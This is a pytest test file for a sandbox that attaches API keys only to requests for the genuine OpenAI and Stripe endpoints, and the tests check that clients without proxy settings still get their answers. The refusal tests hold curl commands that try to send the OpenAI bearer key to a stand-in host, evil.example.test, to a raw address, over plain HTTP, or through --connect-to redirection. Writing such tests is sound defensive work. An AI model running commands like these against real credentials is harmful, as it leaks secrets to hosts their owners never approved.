"""`briefcased run --confine`: real clients without proxy settings, shipped profiles, providers at their own names."""

from __future__ import annotations

import asyncio
import fcntl
import json
import os
import shutil
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.confine.conftest import ROOT
from tests.rig.program import assert_unseen, clean_environment, ended, started

HERE = Path(__file__).parent
PROGRAMS = HERE / "programs"
OPENAI = "sk-proj-REAL0123456789abcdefghijklmnopqr"
STRIPE = "rk_test_REAL0123456789abcdefghijklmnopqr"
CURL = 'curl -sS -H "Authorization: Bearer $OPENAI_API_KEY" '
MODELS = "https://api.openai.com/v1/models"
LIMIT_S = 120
FETCH = f"fetch('{MODELS}', {{headers: {{authorization: 'Bearer ' + process.env.OPENAI_API_KEY}}}}).then(r => r.text()).then(console.log)"
PYTHON = f"""
import os, ssl, urllib.request as u
request = u.Request({MODELS!r}, headers={{"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}})
print(u.urlopen(request).read().decode())
"""


async def world(folder: Path, *command: str, **variables: str) -> dict[str, Any]:
    held = {"OPENAI_API_KEY": OPENAI, "STRIPE_API_KEY": STRIPE, "BRIEFCASED_HOME": str(folder / "state")}
    environment = {**clean_environment(folder), "PYTHONPATH": str(ROOT), **held, **variables}
    start = ("unshare", "-Urnm", "--map-root-user", sys.executable, str(PROGRAMS / "world.py"), str(folder))
    ran = await ended(await started(*start, *command, env=environment, cwd=folder), limit_s=LIMIT_S)
    assert ran.code == 0, ran.err
    seen: dict[str, Any] = json.loads(ran.out)
    assert_unseen(seen["out"] + seen["err"], OPENAI, STRIPE)
    return seen


@pytest.mark.parametrize(
    "command",
    [["sh", "-c", CURL + MODELS], ["node", "-e", FETCH], [sys.executable, "-c", PYTHON]],
    ids=["curl", "node fetch", "python"],
)
async def test_p1_a_client_without_proxy_settings_gets_its_answer_with_the_key(tmp_path, command):
    seen = await world(tmp_path, *command)
    assert "gpt-of-the-test" in seen["out"], seen["err"]
    assert seen["requests"] == [["api.openai.com", "/v1/models", f"Bearer {OPENAI}"]]
    assert json.loads(seen["err"])["allowed"] == 1


async def test_no_proxy_variable_is_left_but_the_bundles_are(tmp_path):
    held = {"HTTPS_PROXY": "http://192.0.2.1:1", "no_proxy": "*"}
    seen = await world(tmp_path, "env", **held)
    names = {line.partition("=")[0] for line in seen["out"].splitlines()}
    assert not {name for name in names if "proxy" in name.lower()}
    assert {"SSL_CERT_FILE", "NODE_EXTRA_CA_CERTS", "OPENAI_API_KEY"} <= names


@pytest.mark.parametrize(
    ("command", "refused"),
    [
        (CURL + "-k https://evil.example.test/v1/models", "destination_not_allowed"),
        (CURL + "-k https://192.0.2.9/v1/models", "destination_not_allowed"),
        (CURL + "http://api.openai.com/v1/models", "credential_scope"),
        (CURL + "-k --connect-to api.openai.com:443:evil.example.test:443 " + MODELS, "authority_mismatch"),
    ],
    ids=["another host", "an address", "no TLS", "another name in the ClientHello"],
)
async def test_p2_what_is_not_the_provider_gets_nothing(tmp_path, command, refused):
    seen = await world(tmp_path, "sh", "-c", command)
    assert seen["requests"] == []
    assert set(json.loads(seen["err"].splitlines()[-1])["refused"]) == {refused}


async def test_p2_an_address_of_the_agents_own_choice_is_not_where_the_key_goes(tmp_path):
    seen = await world(tmp_path, "sh", "-c", CURL + "--resolve api.openai.com:443:192.0.2.9 " + MODELS)
    assert "gpt-of-the-test" in seen["out"], seen["err"]
    assert seen["requests"] == [["api.openai.com", "/v1/models", f"Bearer {OPENAI}"]]


async def test_the_state_is_hidden(tmp_path):
    seen = await world(tmp_path, "sh", "-c", f"ls -A {tmp_path}/state && echo seen")
    assert seen["out"] == "seen\n"
    assert {path.suffix for path in (tmp_path / "state").iterdir()} >= {".db"}


def installed() -> str | None:
    """Install the SDKs once per checkout, whatever the number of test processes; says why that failed."""
    npm = shutil.which("npm")
    if npm is None:
        return "no npm"
    folder = HERE / "node"
    done = folder / "node_modules" / ".package-lock.json"
    with (folder / "package.json").open() as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if done.exists() and done.stat().st_mtime >= (folder / "package-lock.json").stat().st_mtime:
            return None
        os.utime(folder / "package.json")
        command = f"cd {folder} && {npm} ci --no-audit --no-fund --ignore-scripts >&2 && touch {done}"
        return None if os.system(command) == 0 else "npm cannot install the SDKs"


@pytest.mark.slow
@pytest.mark.parametrize(
    ("program", "said", "request_"),
    [
        ("openai.cjs", "gpt-of-the-test\n", ["api.openai.com", "/v1/models", f"Bearer {OPENAI}"]),
        ("stripe.cjs", "4711\n", ["api.stripe.com", "/v1/balance", f"Bearer {STRIPE}"]),
    ],
)
async def test_p1_a_stock_sdk_without_any_settings_gets_its_answer(tmp_path, program, said, request_):
    if (why := await asyncio.to_thread(installed)) is not None:
        pytest.skip(why)
    seen = await world(tmp_path, "node", str(PROGRAMS / program), NODE_PATH=str(HERE / "node" / "node_modules"))
    assert (seen["code"], seen["out"]) == (0, said), seen["err"]
    assert seen["requests"] == [request_]
